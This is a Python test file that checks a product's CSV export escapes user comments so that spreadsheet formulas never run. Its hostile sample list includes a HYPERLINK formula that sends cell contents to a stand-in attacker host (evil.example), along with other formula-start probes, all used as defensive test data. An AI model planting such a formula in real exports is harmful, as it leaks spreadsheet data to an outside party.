"""CSV the product writes is safe to open in a spreadsheet: no cell of user text runs as a formula."""

from __future__ import annotations

import csv
import io

from candidates import candidate
from click.testing import CliRunner

from smartstep.advice.feedback import record_rating
from smartstep.advice.log import log_advice
from smartstep.advice.ranking import Advice
from smartstep.cli import main
from smartstep.commands.csv_out import write_csv

HOSTILE = {
    "U1": '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "U2": "+1 thanks",
    "U3": "-2+3",
    "U4": "@SUM(A1:A9)",
    "U5": "\t=1+1",
    "U6": "\r=1+1",
    "U7": "fine, it worked",
}


def test_feedback_export_csv_neutralises_every_formula_start(db_path, db) -> None:
    made = candidate("customer.effort", "Technical", 0.7, metric="ces", value=4.9, previous=5.3, period="2026-W31")
    [logged] = log_advice(db, [Advice(made, 0.7)], "test", make_id=lambda: "adv-1")
    for user, comment in HOSTILE.items():
        record_rating(db, logged.advice_id, user, "down", comment=comment)
    result = CliRunner().invoke(main, ["--db", str(db_path), "feedback", "export", "--csv"])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout, newline="")))
    comments = {row["user"]: row["comment"] for row in rows}
    assert comments == {
        "U1": '\'=HYPERLINK("http://evil.example/?x="&A1,"x")',
        "U2": "'+1 thanks",
        "U3": "'-2+3",
        "U4": "'@SUM(A1:A9)",
        "U5": "'\t=1+1",
        "U6": "'\r=1+1",
        "U7": "fine, it worked",
    }
    assert {row["advice_id"] for row in rows} == {"adv-1"} and {row["rating"] for row in rows} == {"down"}


def test_numbers_stay_numbers_and_text_that_looks_like_one_is_quoted() -> None:
    """A negative number in a numeric column is data a spreadsheet must still sum; the same
    characters arriving as text are treated like any other text cell."""
    out = io.StringIO()
    write_csv(out, ["team", "change", "note", "=header"], [["Billing", -3.5, "-3.5", None], ["@ops", -2, "", 0]])
    assert out.getvalue() == "team,change,note,'=header\nBilling,-3.5,'-3.5,\n'@ops,-2,,0\n"
